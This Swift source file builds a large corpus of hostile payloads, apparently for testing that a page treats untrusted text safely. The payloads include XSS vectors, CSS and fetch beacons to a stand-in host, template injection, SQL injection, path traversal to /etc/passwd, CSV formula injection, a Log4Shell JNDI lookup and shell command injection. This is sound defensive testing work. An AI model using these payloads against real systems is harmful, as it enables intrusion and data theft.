/// Texts that would run, ask for something or confuse if any part of the page took them for more than text.
///
/// Each family is a table whose parts are put together here. In a text, `BEACON` stands for an address that must never be asked.
enum HostilePayloads {
    /// Texts of one kind of trick.
    struct Family: Sendable {
        let name: String
        let texts: [String]
        /// Whether each, put into a page as markup, becomes an element that `HostileWatch` knows for theirs.
        var isMarkup = false
        /// Whether each works only where it is the whole of a field.
        var standsAlone = false
    }

    /// Every family there is.
    static let families = [
        Family(name: "elements that fire by themselves", texts: firing.map { "<\($0) on\($1)=RUN>" }, isMarkup: true),
        Family(name: "ways out of what stands round", texts: closers.map { $0 + "<svg onload=RUN>" }, isMarkup: true),
        Family(name: "ways out of an attribute", texts: attributes, standsAlone: true),
        Family(name: "spellings of an element", texts: spellings),
        Family(name: "addresses by themselves", texts: addresses, standsAlone: true),
        Family(name: "addresses in an element", texts: carried, isMarkup: true),
        Family(name: "style sheets", texts: styles),
        Family(name: "SVG and MathML", texts: foreign, isMarkup: true),
        Family(name: "markup that changes when it is read twice", texts: mutations),
        Family(name: "templates", texts: templates),
        Family(name: "ways out of a script or JSON", texts: contexts),
        Family(name: "charsets and escapes", texts: charsets),
        Family(name: "marks without a glyph", texts: unseen),
        Family(name: "names that objects have", texts: names, standsAlone: true),
        Family(name: "what other readers take for orders", texts: others),
        Family(name: "for several places at once", texts: polyglots),
    ].map(filled)

    /// Every text, each with another script in its hole than the one before.
    static let all = families.flatMap(\.texts)

    /// Every text as fields have it: alone where it has to be, else three that follow one another.
    static let fields: [String] = {
        let alone = families.filter(\.standsAlone).flatMap(\.texts)
        let others = families.filter { !$0.standsAlone }.flatMap(\.texts)
        return alone
            + stride(from: 0, to: others.count, by: 3).map { first in
                others[first..<min(first + 3, others.count)].joined(separator: " ")
            }
    }()

    /// What a text would do; each tells on itself in another way.
    private static let scripts = [
        "window.__ran=1", "alert(1)", "top.__ran=1", "(new Image).src='BEACON'", "confirm(1)", "fetch('BEACON')",
        "print()",
    ]

    private static func filled(_ family: Family) -> Family {
        let texts = family.texts.enumerated().map { index, text in
            text.replacing("RUN", with: scripts[index % scripts.count])
        }
        return Family(name: family.name, texts: texts, isMarkup: family.isMarkup, standsAlone: family.standsAlone)
    }

    /// An element with its attributes, and the event that comes to it without a hand.
    private static let firing: [(String, String)] = [
        ("img src=x", "error"), ("img srcset=x", "error"), ("image src=x", "error"),
        ("input type=image src=x", "error"), ("video src=x", "error"), ("audio src=x", "error"),
        ("video><source src=x", "error"), ("object data=x", "error"), ("embed src=x", "load"),
        ("script src=x", "error"), ("link rel=stylesheet href=x", "error"), ("svg", "load"),
        ("svg><image href=x", "error"), ("svg><animate attributeName=x dur=1s", "begin"),
        ("svg><set attributeName=x to=y", "begin"), ("picture><img src=x", "error"), ("iframe", "load"),
        ("style", "load"),
        ("input autofocus", "focus"), ("select autofocus", "focus"), ("textarea autofocus", "focusin"),
        ("div contenteditable autofocus", "focus"), ("a href=# autofocus", "focus"), ("details open", "toggle"),
        ("marquee", "start"), ("b style='animation:x 1s'", "animationstart"), ("div popover", "beforetoggle"),
        ("dialog open", "close"), ("p hidden=until-found", "beforematch"), ("video autoplay src=data:,", "stalled"),
    ]

    /// What ends a thing that a text may stand in.
    private static let closers = [
        "", "\">", "'>", "`>", "\"/>", "-->", "--!>", "*/", "]]>", "?>", "%>", "</title>", "</textarea>", "</style>",
        "</script>", "</noscript>", "</template>", "</select>", "</option></datalist>", "</pre></code>",
        "</td></tr></table>", "</button></a>", "</svg></math>", "</iframe>", "</xmp></noembed>",
    ]

    private static let attributes = [
        "\" autofocus onfocus=RUN x=\"", "' autofocus onfocus=RUN x='", "` onerror=RUN x=`", " onpointerenter=RUN ",
        "\"onload=\"RUN", "x\tonclick=RUN\t", "\" style=\"background:url(BEACON)", "\" href=\"javascript:RUN",
        "#\" srcdoc=\"<script>RUN</script>", "row-1\" role=\"none\" aria-hidden=\"true",
    ]

    private static let spellings = [
        "<script>RUN</script>", "<ScRiPt>RUN</sCrIpT>", "<script >RUN</script >", "<script/x>RUN</script/y>",
        "<script\n>RUN</script\n>", "<script type=module>RUN</script>", "<script src=BEACON></script>",
        "<script src='data:text/javascript,RUN'></script>", "<scr<script>ipt>RUN</scr</script>ipt>",
        "<scr\u{0}ipt>RUN</scr\u{0}ipt>", "<img/src=x/onerror=RUN>", "<img\tsrc=x\tonerror=RUN>",
        "<img\u{C}src=x\u{C}onerror=RUN>", "<IMG SRC=x ONERROR=RUN>", "<img src=x onerror=RUN",
        "<<img src=x onerror=RUN>",
        "<im<!---->g src=x onerror=RUN>", "<!--><script>RUN</script>-->", "<![CDATA[<script>RUN</script>]]>",
        "<?xml-stylesheet href=BEACON?><x>", "<script type=importmap>{\"imports\":{\"./dom.js\":\"BEACON\"}}</script>",
        "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"BEACON\"]}]}</script>",
        "<img src=x onerror=" + "window.__ran=1".unicodeScalars.map { "&#\($0.value);" }.joined() + ">",
        "<img src=x onerror=" + "alert(1)".unicodeScalars.map { "&#x" + String($0.value, radix: 16) + ";" }.joined()
            + ">",
    ]

    private static let addresses = [
        "javascript:RUN", "JaVaScRiPt:RUN", "java\tscript:RUN", "\u{1}javascript:RUN", " javascript:RUN",
        "javascript&colon;RUN", "&#106;avascript:RUN", "javascript:%52UN//%0aRUN", "javascript://x%0aRUN",
        "vbscript:RUN",
        "data:text/html,<script>RUN</script>", "data:text/html;base64,PHNjcmlwdD50b3AuX19yYW49MTwvc2NyaXB0Pg==",
        "data:image/svg+xml,<svg onload='RUN'/>", "blob:null/x", "filesystem:x", "view-source:BEACON",
        "file:///etc/passwd", "about:srcdoc", "//BEACON", "/\\BEACON", "\\\\BEACON", "https:BEACON",
        "http://user:pass@BEACON", "http://127.0.0.1:1/%2e%2e/%2e%2e/api/v1/clear?all=true",
    ]

    /// Elements that go to an address, or make the page go there.
    private static let carried: [String] = [
        "<a href=\"URL\">x</a>", "<iframe src=\"URL\"></iframe>", "<form action=\"URL\"><input></form>",
        "<button formaction=\"URL\">x</button>", "<object data=\"URL\"></object>", "<embed src=\"URL\">",
        "<svg><a href=\"URL\"><text y=9>x</text></a></svg>", "<base href=\"URL\">",
        "<meta http-equiv=refresh content=\"0;url=URL\">", "<map><area href=\"URL\"></map>",
        "<link rel=prefetch href=\"URL\">", "<img srcset=\"URL 2x\" src=\"URL\">",
    ].flatMap { carrier in
        ["javascript:RUN", "data:text/html,<script>RUN</script>", "BEACON"].map { carrier.replacing("URL", with: $0) }
    }

    private static let styles = [
        "<style>@import 'BEACON';</style>", "<style>*{background:url(BEACON)}</style>",
        "<link rel=stylesheet href=BEACON>", "<p style='background:url(BEACON)'>x</p>",
        "<p style='width:expression(RUN)'>x</p>", "<p style='-moz-binding:url(BEACON)'>x</p>",
        "<p style='position:fixed;inset:0;z-index:9'>x</p>", "}*{display:none}/*",
        "</style><style>*{display:none}</style>",
        "url(BEACON)", "red;background:url(BEACON)", "@font-face{font-family:x;src:url(BEACON)}",
        "input[value^=a]{background:url(BEACON)}", "\\3c script\\3eRUN\\3c/script\\3e", "100%;--now:url(BEACON)",
    ]

    private static let foreign = [
        "<svg><script href=BEACON></script></svg>", "<svg><script>RUN</script></svg>",
        "<svg><use href=BEACON#x></use></svg>",
        "<svg><image href=BEACON></image></svg>", "<svg><feImage href=BEACON></feImage></svg>",
        "<svg><a><animate attributeName=href values=javascript:RUN></animate><text y=9>x</text></a></svg>",
        "<svg><foreignObject><body onload=RUN></foreignObject></svg>", "<svg><style>@import 'BEACON'</style></svg>",
        "<svg><handler type=text/javascript>RUN</handler></svg>", "<math><mi href=javascript:RUN>x</mi></math>",
        "<math><maction actiontype=statusline href=javascript:RUN>x</maction></math>",
        "<math><annotation-xml encoding=text/html><img src=x onerror=RUN></annotation-xml></math>",
    ]

    /// A hidden picture in an attribute, inside what one parser takes for text and the next for markup.
    private static let mutations: [String] = [
        ("<math><mtext><table><mglyph><style><!--</style>", "--&gt;"), ("<svg></p><style><a id='</style>", "'"),
        ("<noscript><p title='</noscript>", "'"), ("<template><p title='</template>", "'"),
        ("<select><noembed></select>", "</noembed>"), ("<form><math><mtext></form><form><mglyph><style></math>", ""),
        ("<xmp><p title='</xmp>", "'"), ("<textarea><!--</textarea>", "-->"), ("<listing>&lt;", "&gt;"),
        ("<svg><title><style>", "</style></title>"), ("<table><td><svg><desc><table>", "</table>"),
        ("<b><p><i></b>", "</i></p>"),
    ].map { before, after in "\(before)<img src=x title=\"\(after)\" onerror=RUN>" }

    private static let templates = [
        "{{RUN}}", "{{constructor.constructor('RUN')()}}", "{{{RUN}}}", "${RUN}", "`${RUN}`", "#{RUN}", "*{RUN}",
        "@{RUN}",
        "<%= RUN %>", "[[RUN]]", "{% RUN %}", "{= RUN =}", "<b ng-init=RUN>", "<b v-html=RUN>", "<b x-init=RUN>",
        "<b hx-get=BEACON hx-trigger=load>", "%{RUN}", "$(RUN)",
    ]

    private static let contexts = [
        "';RUN;//", "\";RUN;//", "`;RUN;//", "\\';RUN;//", "\\\";RUN;//", "'+RUN+'", "\"-RUN-\"", "*/RUN/*", "-->\nRUN",
        "\u{2028}RUN\u{2029}", "\\u2028RUN", "]};RUN;//", "}}],\"x\":[{\"y\":\"", "\\", "\\\\\"",
        "</script><script>RUN</script>",
        "\\u003cscript\\u003eRUN\\u003c/script\\u003e", "\\x3cscript\\x3eRUN\\x3c/script\\x3e",
        "data: {\"exchanges\":[]}\n\nevent: resync\ndata: x\n\n", "\",\"error\":\"x",
    ]

    private static let charsets = [
        "+ADw-script+AD4-window.__ran=1+ADw-/script+AD4-", "~{<~}script>RUN~{<~}/script>",
        "\u{1B}(J<script>RUN</script>",
        "\u{FEFF}<script>RUN</script>", "\u{FF1C}script\u{FF1E}RUN\u{FF1C}/script\u{FF1E}", "‹script›RUN‹/script›",
        "%3Cscript%3ERUN%3C/script%3E", "%253Cscript%253ERUN", "%u003cscript%u003eRUN", "%C0%BCscript%C0%BERUN",
        "&lt;script&gt;RUN&lt;/script&gt;", "&amp;lt;script&amp;gt;RUN", "&#60;script&#62;RUN", "&#x3c;script&#x3e;RUN",
        "&ltscript&gtRUN", "\u{17F}cript<\u{17F}cript>RUN", "\u{212A}ey=<\u{130}mg onerror=RUN>",
        "=?utf-8?B?PHNjcmlwdD4=?=",
    ]

    /// Controls, marks of direction, and what is drawn as nothing or as too much.
    private static let unseen: [String] =
        [
            "\u{202E}", "\u{202D}", "\u{2066}", "\u{2067}", "\u{2068}", "\u{2069}", "\u{200B}", "\u{200D}", "\u{FEFF}",
            "\u{AD}", "\u{0}", "\u{7}", "\u{8}", "\u{7F}", "\u{85}", "\u{9B}31m", "\u{1B}[31m", "\u{1B}]0;x\u{7}",
            "\u{E0041}\u{E0042}", "\u{FFFE}\u{FFFF}", "\u{34F}", "\u{3164}",
        ].map { "a\($0)<img src=x onerror=RUN>\($0)gpj" } + [
            "x" + String(repeating: "\u{300}\u{489}", count: 60) + "<svg onload=RUN>"
        ]

    private static let names = [
        "__proto__", "constructor", "prototype", "toString", "valueOf", "hasOwnProperty", "isPrototypeOf", "then",
        "__defineGetter__", "__lookupSetter__", "__proto__[ran]=1", "__proto__.ran", "constructor.prototype.ran",
        "length",
        "innerHTML", "onerror", "detail", "rows", "undefined", "null", "NaN", "[object Object]", "-0", "1e999", "true",
    ]

    private static let others = [
        "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd", "+1+1", "-2+3", "../../../../etc/passwd", "..%2f..%2f", "..\\..\\x",
        "%00",
        "{\"__proto__\":{\"__ran\":1}}", "'; DROP TABLE exchange; --", "\" OR 1=1 --", "(a+)+$", "[", ".*", "/x/",
        "code:404 or",
        "-(", "\"", "@nobody", "%s%n%x", "${jndi:ldap://BEACON}", "<!--#exec cmd=x-->",
        "<!DOCTYPE a SYSTEM 'BEACON'><a>",
        "$(touch x)", "`touch x`", "|touch x", "💥👩‍👩‍👧‍👦🏴‍☠️", String(repeating: "<b>", count: 400),
        String(repeating: "A", count: 4_000),
    ]

    private static let polyglots = [
        "javascript:/*" + closers.dropFirst(11).joined() + "<svg onload=RUN>//*/RUN",
        closers.joined() + "<img src=x onerror=RUN>",
        "'\"`>" + closers.dropFirst(5).joined() + "{{RUN}}${RUN}<script>RUN</script>",
        "<iframe srcdoc=\"<script>parent.__ran=1</script>\"></iframe><iframe src=\"javascript:top.__ran=1\"></iframe>",
        "<a id=detail name=rows href=javascript:RUN><form id=find name=query><input id=query name=value><output id=totals>",
        "<details open ontoggle=RUN><summary><select><option></select><style></style><svg><title>x</title><desc>RUN",
    ]
}
